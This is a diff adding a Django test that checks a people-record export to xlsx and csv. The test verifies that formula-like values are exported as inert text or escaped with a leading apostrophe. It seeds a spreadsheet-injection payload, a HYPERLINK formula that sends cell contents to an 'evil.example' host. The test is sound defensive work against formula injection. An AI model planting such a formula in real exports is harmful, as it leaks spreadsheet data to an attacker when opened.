@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -28,6 +29,25 @@ class ExportTest(PeopleTestCase):
         rows = list(sheet.iter_rows(values_only=True))
         self.assertEqual(rows[0][0], "name")
         self.assertEqual(len(rows), 4)
+
+    def test_it_exports_formula_like_text_as_inert_text(self) -> None:
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        KeyPerson.objects.filter(pk=self.wang.pk).update(
+            name=formula, title="+1 buyer", pains="@SUM(A1)", department="-Purchasing"
+        )
+        self.login(self.alice)
+        r = self.client.get(reverse("people-export", args=["AL001", "xlsx"]))
+        sheet = load_workbook(io.BytesIO(r.content)).active
+        cells = {c.value: c for row in sheet.iter_rows() for c in row}
+        for text in (formula, "+1 buyer", "@SUM(A1)", "-Purchasing"):
+            self.assertEqual(cells[text].data_type, "s", text)
+        r = self.client.get(reverse("people-export", args=["AL001", "csv"]))
+        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+        wang = next(row for row in rows if row[0].endswith(formula))
+        self.assertEqual(wang[0], "'" + formula)
+        self.assertEqual(wang[1], "'-Purchasing")
+        self.assertEqual(wang[2], "'+1 buyer")
+        self.assertEqual(wang[10], "'@SUM(A1)")
 
     def test_it_exports_vcards(self) -> None:
         self.login(self.alice)
